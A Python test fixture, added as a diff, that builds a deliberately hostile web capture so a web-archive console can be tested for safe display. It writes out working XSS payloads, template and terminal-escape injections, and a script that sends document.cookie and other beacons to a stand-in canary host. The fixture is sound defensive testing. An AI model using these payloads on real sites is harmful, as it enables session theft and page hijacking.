@@ -1,0 +1,148 @@
+"""
+A sealed capture in which everything that a page can choose is hostile to who looks at it.
+
+Title, addresses, text, headers, notes and files try to run a script, to leave the page, to load
+something, to send something, to overlay the console, and to turn or hide text. Whatever succeeds
+reaches `CANARY`, a host that a test watches, or sets `window.owned`.
+"""
+
+from collections.abc import Callable, Mapping
+from dataclasses import replace
+from datetime import UTC, datetime
+from pathlib import Path
+
+from snapshotter.app.archive import annotations
+from snapshotter.formats.page import assessment as assessments
+from snapshotter.model.annotations import AnnotationKind, Mark, NewAnnotation, ReviewDecision
+from snapshotter.model.capture import (
+    Action,
+    FailedRequest,
+    ImageCounts,
+    Outcome,
+    PictureKind,
+    Reason,
+)
+from snapshotter.model.reading import Readings
+from snapshotter.ports import Signer
+from snapshotter.store.filesystem import DirectoryStore
+from tests import annotated, bundles, observed
+from tests.fakes.world import FixedClock
+from tests.site_bundles import whole_picture
+
+CANARY = "canary.invalid"
+AT = datetime(2026, 5, 27, 8, 0, tzinfo=UTC)
+# What each text of a stranger's contains: for HTML, attributes, CSS, templates and terminals.
+PAYLOAD = (
+    f"\"'></title></textarea></style><script>window.owned=1;fetch('//{CANARY}/script')</script>"
+    f"<img src=//{CANARY}/img onerror=window.owned=2><svg/onload=window.owned=3>"
+    f"<a href=javascript:window.owned=4>x</a><iframe src=//{CANARY}/frame></iframe>"
+    f"<base href=//{CANARY}/><meta http-equiv=refresh content='0;url=//{CANARY}/meta'>"
+    f"<link rel=dns-prefetch href=//dns.{CANARY}><form action=//{CANARY}/form><input name=q></form>"
+    "{{ 7*7 }}{% for x in () %}\u202e\u2066\x1b[2J\x07"
+)
+TITLE = f"A page {PAYLOAD}"
+URL = (
+    "http://example.test/a?next=javascript:alert(1)&q=%22%3E%3Cscript%3Ewindow.owned=5%3C/script%3E"
+)
+SCRIPT = f"""
+window.owned = 6;
+try {{ fetch("//{CANARY}/cookie?" + document.cookie); }} catch (error) {{}}
+try {{ top.location = "//{CANARY}/top"; }} catch (error) {{}}
+try {{ parent.postMessage("owned", "*"); opener && opener.postMessage("owned", "*"); }}
+catch (error) {{}}
+try {{ navigator.serviceWorker.register("worker.js"); }} catch (error) {{}}
+try {{ window.open("//{CANARY}/window"); }} catch (error) {{}}
+try {{ new RTCPeerConnection({{iceServers: [{{urls: "stun:stun.{CANARY}"}}]}})
+  .createDataChannel("x"); }} catch (error) {{}}
+const hint = document.createElement("link");
+hint.rel = "dns-prefetch"; hint.href = "//script-dns.{CANARY}"; document.head.append(hint);
+"""
+HTML = f"<!doctype html><title>{PAYLOAD}</title><body><script>{SCRIPT}</script>{PAYLOAD}"
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.owned=7">'
+    f"<script>{SCRIPT.replace('&', '&amp;')}</script></svg>"
+)
+FILES: Mapping[str, bytes] = {
+    "capture/dom.html": HTML.encode(),
+    "capture/page.html": HTML.encode(),
+    "capture/picture.svg": SVG.encode(),
+    "capture/worker.js": SCRIPT.encode(),
+    "capture/page.txt": f"First line\n{PAYLOAD}\nLast line\n".encode(),
+}
+
+
+class HostileArchive:
+    """
+    A store below a folder with one hostile capture, and with keys that a console trusts.
+
+    Args:
+        folder: As of `webclient.console_settings`.
+    """
+
+    def __init__(self, folder: Path, *, png: bytes = bundles.PNG, graphic: bool = False) -> None:
+        self.store = DirectoryStore(folder / "store")
+        self.signer = bundles.new_signer()
+        _make_trusted(folder / "keys", self.signer)
+        self.bundle_id = self._put(folder / "spool", png)
+        self.key = f"bundles/{AT:%Y/%m/%d}/{self.bundle_id}.wacz"
+        self._annotate(graphic)
+
+    def _put(self, spool: Path, png: bytes) -> str:
+        spool.mkdir(parents=True, exist_ok=True)
+        shown = replace(observed.available(), readings=Readings(main_text=PAYLOAD))
+        contents = {
+            **bundles.CONTENTS,
+            **FILES,
+            "capture/screenshot.png": png,
+            assessments.PATH: assessments.encode(shown),
+        }
+        made = bundles.capture(spool, at=AT, title=TITLE, contents=contents)
+        assert made.response is not None
+        made = replace(
+            made,
+            requested_url=URL,
+            final_url=URL,
+            outcome=Outcome.PARTIAL,
+            reasons=(Reason(code="images-missing", detail=PAYLOAD),),
+            warnings=(Reason(code="clock-skew", detail=PAYLOAD),),
+            actions=(Action(at=AT, kind="scroll", detail=PAYLOAD),),
+            failed_requests=(
+                FailedRequest(url=f"{URL}&x={PAYLOAD}", resource_type="Image", error=PAYLOAD),
+            ),
+            images=ImageCounts(wanted=1, failed=1, failed_urls=(f"{URL}{PAYLOAD}",)),
+            response=replace(
+                made.response,
+                url=URL,
+                headers=(("content-type", "text/html"), ("x-note", PAYLOAD.replace("\x1b", ""))),
+            ),
+            pictures=(whole_picture(PictureKind.PAGE, "capture/screenshot.png", 40, 40),),
+        )
+        sealed = observed.sealed(
+            made, bundles.decision(require_timestamps=0), spool, self.signer, (), FixedClock(AT), ""
+        )
+        observed.put(self.store, sealed)
+        return sealed.id
+
+    def _annotate(self, graphic: bool) -> None:
+        service = annotated.service_on(self.store, signer=self.signer, name=PAYLOAD[:64])
+        ids = (self.bundle_id,)
+        tag = NewAnnotation(kind=AnnotationKind.TAG_ADDED, bundles=ids, name="hostile")
+        note = NewAnnotation(kind=AnnotationKind.NOTE_ADDED, bundles=ids)
+        review = NewAnnotation(
+            kind=AnnotationKind.REVIEWED, bundles=ids, name=ReviewDecision.NEEDS_WORK
+        )
+        mark = NewAnnotation(kind=AnnotationKind.MARKED, bundles=ids, name=Mark.GRAPHIC)
+        for new, text in ((tag, ""), (note, PAYLOAD), (review, PAYLOAD)):
+            annotations.append(service, _always(new), text=text)
+        if graphic:
+            annotations.append(service, _always(mark))
+
+
+def _always(new: NewAnnotation) -> Callable[[object], NewAnnotation]:
+    return lambda _: new
+
+
+def _make_trusted(keys: Path, signer: Signer) -> None:
+    """Let a console trust a key whose private part it does not have."""
+    keys.mkdir(parents=True, mode=0o700, exist_ok=True)
+    (keys / "default.pub.pem").write_bytes(signer.public_key_pem)
